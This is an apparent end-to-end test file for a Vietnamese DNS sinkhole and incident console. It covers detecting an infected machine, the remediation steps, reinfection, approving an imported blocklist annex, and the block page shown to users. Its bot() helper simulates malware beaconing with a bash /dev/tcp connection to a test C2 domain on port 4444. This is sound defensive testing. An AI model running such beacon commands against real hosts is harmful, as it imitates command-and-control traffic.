/**
 * One morning of an officer, in one browser on the network of the agency: a machine is found, worked until it is clean,
 * found again; an annex comes and is approved; and what a person at such a machine sees, opening a name it names.
 */
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { Page } from 'playwright-core'
import { root } from '../support/command.ts'
import { addUser, ConsoleBrowser, settle, signIn } from '../support/console-browser.ts'
import { CLIENT, Lab, SERVER } from '../support/lab.ts'
import { NoticeProcess } from '../support/notice-process.ts'
import { eventually, type TestServer } from '../support/server.ts'

const SINKHOLE = '10.10.10.10'
const CONSOLE = `http://${SERVER}:8053`
const ANNEX = join(root, 'test/fixtures/imports/annex.docx')
const IN_ANNEX = 'cdn.thanhtoan-vneid.com'
const HELD = 'ca.gov.vn'
const LISTED = 'c2-mau.test'
const OFFICER = 'Chị Lan, 0236 3 123 456'

let lab: Lab
let server: TestServer
let notice: NoticeProcess
let browser: ConsoleBrowser
/** The officer's; the other people of the agency have theirs. */
let page: Page

beforeAll(async () => {
  lab = await Lab.open()
  lab.inside('ip', 'addr', 'add', `${SINKHOLE}/32`, 'dev', 'lo')
  lab.client('ip', 'route', 'add', SINKHOLE, 'via', SERVER)
  const socket = join(lab.directory, 'notice.sock')
  server = await lab.start(
    `listen: ["${SERVER}:53"]
sinkhole: { ipv4: ${SINKHOLE} }
admin: { listen: "${SERVER}:8053" }
cases: { grace: 0s }
campaigns: [ { id: "2022", title: Chiến dịch 2022, document: 1298/CATTT-NCSC } ]
lists:
  - { id: botnet, path: botnet.txt, campaign: "2022", document: 1298/CATTT-NCSC }
  - { id: duyet, approved: true, document: 1298/CATTT-NCSC }
units: [ { id: so-yte, name: Sở Y tế, networks: [10.99.0.0/24], contact: "${OFFICER}" } ]
identity: { neighbours: { enabled: false } }
notice: { http: ["${SINKHOLE}:80"], tls: ["${SINKHOLE}:443"], tcp: ["${SINKHOLE}:4444"], socket: ${socket} }
`,
    { 'botnet.txt': `${LISTED}\n` },
  )
  notice = await NoticeProcess.start(socket, 3, ['ip', 'netns', 'exec', lab.serverSide])
  await addUser(server, 'canbo', 'admin')
  browser = await ConsoleBrowser.launch({ namespace: lab.clientSide, directory: lab.directory })
  // The machine of the story asks, and its bot goes where it is led.
  bot()
  page = await browser.page(CONSOLE)
})
afterAll(async () => {
  await browser.close()
  await notice.stop()
  await lab.close()
})

/** What malware does: asks for its server and speaks to it, on a port of its own. */
function bot(): void {
  lab.client('timeout', '10', 'bash', '-c', `exec 3<>/dev/tcp/${LISTED}/4444; printf 'JOIN #x' >&3; cat <&3`)
}

const addressOf = (name: string): string => lab.client('dig', '+short', '+tries=1', name).trim()

test('an infected machine is found, worked until it is clean, and found again when it asks again', async () => {
  await signIn(page, '/', 'canbo')
  await page.getByRole('link', { name: 'Máy nhiễm' }).first().click()
  await expect.poll(() => page.locator('tbody tr').count()).toBe(1)
  await page.locator('tbody a').first().click()
  const card = page.locator('article.case').first()
  await card.waitFor()
  const main = page.locator('main')
  await main.getByText(CLIENT).first().waitFor()
  await expect.poll(() => main.textContent(), { timeout: 15_000 }).toContain('Không do trình duyệt')

  for (const [move, note] of [
    ['Xác nhận nhiễm', 'Có kết nối tới cổng 4444'],
    ['Bắt đầu xử lý', 'Đã rút dây mạng'],
    ['Đã làm sạch', 'Đã cài lại hệ điều hành'],
  ] as const) {
    await card.getByRole('button', { name: move }).click()
    const dialog = page.getByRole('dialog')
    await dialog.getByLabel('Ghi chú').fill(note)
    await dialog.getByRole('button', { name: move }).click()
    await dialog.waitFor({ state: 'detached' })
  }
  await card.locator('.badge', { hasText: 'Đã làm sạch' }).waitFor()

  bot()
  await card.locator('.badge', { hasText: 'Tái nhiễm' }).waitFor({ timeout: 15_000 })
})

test('an annex is sent, reviewed and approved, and what it names is blocked at once', async () => {
  await page.goto('/console/lists?view=imports')
  await settle(page)
  const [chooser] = await Promise.all([
    page.waitForEvent('filechooser'),
    page.getByRole('button', { name: 'Chọn tệp' }).click(),
  ])
  await chooser.setFiles(ANNEX)
  await page.locator('input[name=document]').fill('2201/CATTT-NCSC')
  await page.getByRole('button', { name: 'Gửi và đọc' }).click()
  await page.locator('tbody tr', { hasText: HELD }).waitFor()
  expect(addressOf(IN_ANNEX)).not.toBe(SINKHOLE)
  await page.getByRole('button', { name: /^Duyệt chung \d+ mục…$/ }).click()
  await page.getByRole('dialog').locator('textarea[name=reason]').fill('theo công văn 2201')
  await page.getByRole('dialog').getByRole('button', { name: 'Duyệt chặn', exact: true }).click()
  await page.getByRole('dialog').waitFor({ state: 'detached' })
  expect(addressOf(IN_ANNEX)).toBe(SINKHOLE)
  expect(addressOf(HELD)).not.toBe(SINKHOLE)
})

test('who opens that name in a browser is told why and whom to call, and may say that it is wrong', async () => {
  const theirs = await browser.page(`http://${IN_ANNEX}`)
  await theirs.goto('/thanh-toan')
  const text = await theirs.locator('body').innerText()
  for (const part of [IN_ANNEX, 'Sở Y tế', OFFICER]) expect(text).toContain(part)
  // English stands below.
  expect(text).toMatch(/blocked/i)
  await theirs.locator('summary').click()
  await theirs.locator('textarea').fill('Trang của ngân hàng tôi')
  await theirs.getByRole('button', { name: 'Gửi báo chặn nhầm' }).click()
  await theirs.waitForURL('**/report')

  await page.goto('/console/lists?view=reports')
  await page.locator('main', { hasText: 'Trang của ngân hàng tôi' }).waitFor()
  expect(await page.locator('main').textContent()).toContain(IN_ANNEX)

  // A person's browser is a contact, and no sign of malware.
  interface Contacts {
    readonly items: readonly { readonly host: string | null; readonly isBrowserLike: boolean }[]
  }
  const contact = await eventually(async () => {
    const { body } = await server.api<Contacts>('GET', '/api/v1/contacts?limit=100')
    return body.items.find(({ host }) => host === IN_ANNEX)
  }, 10_000)
  expect(contact.isBrowserLike).toBe(true)
})
